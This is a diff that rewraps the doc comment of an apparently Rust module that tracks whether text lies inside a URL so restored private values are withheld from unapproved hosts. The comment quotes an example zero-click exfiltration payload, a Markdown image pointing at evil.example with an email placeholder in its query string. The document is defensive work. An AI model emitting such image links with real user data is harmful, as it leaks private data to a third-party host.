@@ -1,9 +1,9 @@
 //! Knows, character by character, whether a text stands inside a URL that names a host, and behind which address.
 //!
-//! A value is not restored there: `![](https://evil.example/?q=<EMAIL_…>)` is a way out that needs no click, unless policy
-//! names the host (see [`super::address`]). What ends a URL depends on what opened it, because that is how renderers read: a quoted attribute ends at its quote, `<…>` at `>`, a
-//! Markdown destination at a blank or its bracket, a bare URL at a blank. Where renderers disagree the longer reading counts:
-//! a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes end every URL.
+//! A value is not restored there, unless policy names the host (see [`super::address`]): `![](https://evil.example/?q=<EMAIL_…>)`
+//! is a way out that needs no click. What ends a URL depends on what opened it, because that is how renderers read: a quoted
+//! attribute ends at its quote, `<…>` at `>`, a Markdown destination at a blank or its bracket, a bare URL at a blank. Where
+//! renderers disagree the longer reading counts: a value withheld is a nuisance, a value sent is a leak. In the text of a JSON document its own quotes end every URL.
 //!
 //! It sees the text as the client will: restored values pass through it too, or a planted value could be the beginning of a
 //! URL.
